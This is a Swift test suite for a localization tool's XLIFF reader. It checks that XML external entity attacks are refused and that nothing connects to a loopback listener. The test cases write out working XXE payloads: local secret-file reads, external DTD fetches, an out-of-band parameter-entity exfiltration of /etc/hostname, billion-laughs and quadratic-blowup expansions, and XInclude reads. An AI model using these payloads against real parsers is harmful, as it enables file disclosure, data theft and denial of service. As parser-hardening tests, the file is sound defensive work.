import Foundation
import Testing
@testable import LocBridge
#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// The XLIFF reader against XML attacks (README "Security"): entities in any form are refused with the
/// DOCTYPE that declares them, nothing is ever fetched (a listener on 127.0.0.1 sees no connection), a
/// schema location is ignored, and an XInclude is flattened like any foreign markup, never followed.
@Suite struct XLIFFReaderSecurityTests {
    static let doctypeRefusal = "error: the file has a document type declaration (<!DOCTYPE xliff>); XLIFF needs none, "
        + "and locbridge refuses them because they can define entities that read local files or expand without limit"

    /// An XLIFF document with `doctype` on line 2 and one unit `k` whose target is `target`.
    static func document(doctype: String, target: String, rootAttributes: String = "") -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        \(doctype)
        <xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"\(rootAttributes)>
          <file original="App/Localizable.xcstrings" source-language="en" target-language="de" datatype="plaintext"><body>
            <trans-unit id="k"><source>Hello</source><target>\(target)</target></trans-unit>
          </body></file>
        </xliff>

        """
    }

    static func failure(_ text: String) -> String? {
        do {
            _ = try XLIFFReader.read(Array(text.utf8), path: "In.xliff")
            return nil
        } catch {
            return error.description
        }
    }

    /// A file holding `SECRET-<uuid>` that no read may reveal; removed after `body`.
    static func withSecretFile(_ body: (_ path: String, _ secret: String) throws -> Void) throws {
        let path = NSTemporaryDirectory() + "/locbridge-secret-" + UUID().uuidString
        let secret = "SECRET-" + UUID().uuidString
        try Data(secret.utf8).write(to: URL(fileURLWithPath: path))
        defer { try? FileManager.default.removeItem(atPath: path) }
        try body(path, secret)
    }

    @Test func theListenerSeesAConnection() throws {
        // The check the other tests rely on: a connection attempt is counted.
        let listener = try LoopbackListener()
        #expect(listener.acceptedConnections() == 0)
        #if canImport(Glibc)
        let client = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        #else
        let client = socket(AF_INET, SOCK_STREAM, 0)
        #endif
        defer { close(client) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = listener.port.bigEndian
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        let connected = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(client, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
        }
        #expect(connected == 0)
        #expect(listener.acceptedConnections() == 1)
    }

    @Test func xxeReadingALocalFileIsRefused() throws {
        try Self.withSecretFile { path, secret in
            let text = Self.document(doctype: "<!DOCTYPE xliff [<!ENTITY secret SYSTEM \"file://\(path)\">]>", target: "&secret;")
            let failure = Self.failure(text)
            #expect(failure == "In.xliff:2:1: " + Self.doctypeRefusal)
            #expect(failure?.contains(secret) == false)
        }
    }

    @Test func externalDTDFileIsRefused() throws {
        try Self.withSecretFile { path, secret in
            let dtd = path + ".dtd"
            try Data("<!ENTITY leak \"\(secret)\">".utf8).write(to: URL(fileURLWithPath: dtd))
            defer { try? FileManager.default.removeItem(atPath: dtd) }
            #expect(Self.failure(Self.document(doctype: "<!DOCTYPE xliff SYSTEM \"\(dtd)\">", target: "&leak;"))
                    == "In.xliff:2:1: " + Self.doctypeRefusal)
            #expect(Self.failure(Self.document(doctype: "<!DOCTYPE xliff SYSTEM \"file://\(dtd)\">", target: "ok"))
                    == "In.xliff:2:1: " + Self.doctypeRefusal)
        }
    }

    struct NetworkCase: Sendable, CustomTestStringConvertible {
        let name: String
        /// The DOCTYPE, given the listener's URL maker.
        let doctype: @Sendable (LoopbackListener) -> String
        let target: String
        var testDescription: String { name }
    }

    static let networkCases: [NetworkCase] = [
        NetworkCase(name: "XXE over the network", doctype: { "<!DOCTYPE xliff [<!ENTITY e SYSTEM \"\($0.url("e"))\">]>" },
                    target: "&e;"),
        NetworkCase(name: "external DTD by SYSTEM id", doctype: { "<!DOCTYPE xliff SYSTEM \"\($0.url("xliff.dtd"))\">" },
                    target: "ok"),
        NetworkCase(name: "external DTD by PUBLIC id", doctype: {
            "<!DOCTYPE xliff PUBLIC \"-//XLIFF//DTD XLIFF//EN\" \"\($0.url("xliff.dtd"))\">"
        }, target: "ok"),
        NetworkCase(name: "parameter entity", doctype: { "<!DOCTYPE xliff [<!ENTITY % p SYSTEM \"\($0.url("p.dtd"))\"> %p;]>" },
                    target: "ok"),
        NetworkCase(name: "out-of-band exfiltration through parameter entities", doctype: {
            "<!DOCTYPE xliff [<!ENTITY % file SYSTEM \"file:///etc/hostname\">"
                + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '\($0.url("?d=%file;"))'>\"> %eval; %exfil;]>"
        }, target: "ok"),
        NetworkCase(name: "billion laughs", doctype: {
            _ = $0
            return "<!DOCTYPE xliff [<!ENTITY a \"lol\">" + (1...9).map { level in
                "<!ENTITY \(String(repeating: "a", count: level + 1)) \""
                    + String(repeating: "&\(String(repeating: "a", count: level));", count: 10) + "\">"
            }.joined() + "]>"
        }, target: "&aaaaaaaaaa;"),
        NetworkCase(name: "quadratic blowup", doctype: {
            _ = $0
            return "<!DOCTYPE xliff [<!ENTITY a \"\(String(repeating: "x", count: 100_000))\">]>"
        }, target: String(repeating: "&a;", count: 10_000)),
    ]

    /// Every DOCTYPE is refused at line 2, before any entity is declared or expanded, and nothing connects.
    @Test(arguments: networkCases)
    func entitiesAndDTDsAreRefusedWithoutConnecting(_ item: NetworkCase) throws {
        let listener = try LoopbackListener()
        #expect(Self.failure(Self.document(doctype: item.doctype(listener), target: item.target))
                == "In.xliff:2:1: " + Self.doctypeRefusal)
        #expect(listener.acceptedConnections() == 0)
    }

    @Test func schemaLocationIsIgnored() throws {
        let listener = try LoopbackListener()
        let text = Self.document(doctype: "", target: "Hallo", rootAttributes: """
             xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
            xsi:schemaLocation="urn:oasis:names:tc:xliff:document:1.2 \(listener.url("xliff-core-1.2-strict.xsd"))" \
            xsi:noNamespaceSchemaLocation="\(listener.url("other.xsd"))"
            """)
        let result = try XLIFFReader.read(Array(text.utf8), path: "In.xliff")
        #expect(result.document.files.first?.units.map(\.target) == ["Hallo"])
        #expect(result.diagnostics.isEmpty)
        #expect(listener.acceptedConnections() == 0)
    }

    /// `<xi:include>` in a target is foreign markup: flattened to its (empty) text with a warning; the
    /// file or URL it names is never read.
    @Test func xincludeIsFlattenedNeverFollowed() throws {
        let listener = try LoopbackListener()
        try Self.withSecretFile { path, _ in
            let xi = #"xmlns:xi="http://www.w3.org/2001/XInclude""#
            for href in ["/etc/hostname", path, "file://" + path, listener.url("include.txt")] {
                let text = Self.document(doctype: "", target: #"Hallo <xi:include \#(xi) href="\#(href)" parse="text"/>!"#)
                let result = try XLIFFReader.read(Array(text.utf8), path: "In.xliff")
                #expect(result.document.files.first?.units.map(\.target) == ["Hallo !"], "\(href)")
                #expect(result.diagnostics.map(\.description) == [
                    #"In.xliff:5:1: warning: unit "k" contains inline markup (<include>); it was flattened to its text"#,
                ], "\(href)")
            }
            // Between units it is skipped like any tool extension, silently.
            let between = Self.document(doctype: "", target: "Hallo").replacingOccurrences(of: "<body>",
                with: #"<body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="\#(path)" parse="text"/>"#)
            let result = try XLIFFReader.read(Array(between.utf8), path: "In.xliff")
            #expect(result.document.files.first?.units.map(\.target) == ["Hallo"])
            #expect(result.diagnostics.isEmpty)
        }
        #expect(listener.acceptedConnections() == 0)
    }
}
